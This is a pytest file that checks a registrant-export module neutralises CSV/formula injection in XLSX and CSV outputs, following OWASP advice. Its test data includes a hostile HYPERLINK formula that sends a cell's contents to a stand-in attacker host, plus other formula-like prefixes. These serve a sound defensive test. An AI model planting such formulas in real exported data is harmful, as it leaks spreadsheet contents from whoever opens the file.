"""Registrant exports are safe to open in a spreadsheet: a name, unit or position that looks
like a formula (`=HYPERLINK(…)`, `+1`, `-2`, `@SUM`, a leading tab or carriage return) stays
text in the XLSX and is prefixed with `'` in the CSV, as OWASP recommends against CSV injection."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from bot.documents import exports
from db.admin import Registrant
from db.models import RegistrationStatus

WITA = ZoneInfo("Asia/Makassar")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+62812 3456",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def _registrant(number: int, name: str, *, unit: str = "BKPSDM", position: str = "Analis") -> Registrant:
    return Registrant(
        registration_id=number,
        event_id=1,
        employee_id=number,
        name=name,
        nip="198609262015051001",
        unit=unit,
        position=position,
        status=RegistrationStatus.REGISTERED,
        waitlist_position=None,
        registered_at=datetime(2026, 12, 1, 1, 0, tzinfo=UTC),
        confirmed_at=None,
        cancelled_at=None,
        attended_at=None,
        rating=None,
    )


def _hostile() -> list[Registrant]:
    return [_registrant(n, name, unit=name, position=name) for n, name in enumerate(FORMULAS, start=1)]


def test_formula_like_names_are_text_in_the_xlsx() -> None:
    data = exports.registrants_xlsx(_hostile(), WITA, sheet="PKP")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    for row, name in zip(sheet.iter_rows(min_row=2), FORMULAS, strict=True):
        for cell in (row[1], row[3], row[4]):
            assert cell.data_type == "s", (name, cell.data_type)
            assert isinstance(cell.value, str)
            assert cell.value.strip() == name.strip()  # XML reads a stored CR back as LF


def test_formula_like_names_are_prefixed_with_a_quote_in_the_csv() -> None:
    text = exports.registrants_csv(_hostile(), WITA).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row, name in zip(rows, FORMULAS, strict=True):
        for column in ("nama", "unit_kerja", "jabatan"):
            assert row[column] == "'" + name


@pytest.mark.parametrize("name", ["Maria Goreti Bria", "O'Neil", "Yohanes 2 = 3", "ASN-01"])
def test_ordinary_names_are_left_as_they_are(name: str) -> None:
    text = exports.registrants_csv([_registrant(1, name)], WITA).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["nama"] == name
    assert row["no"] == "1"
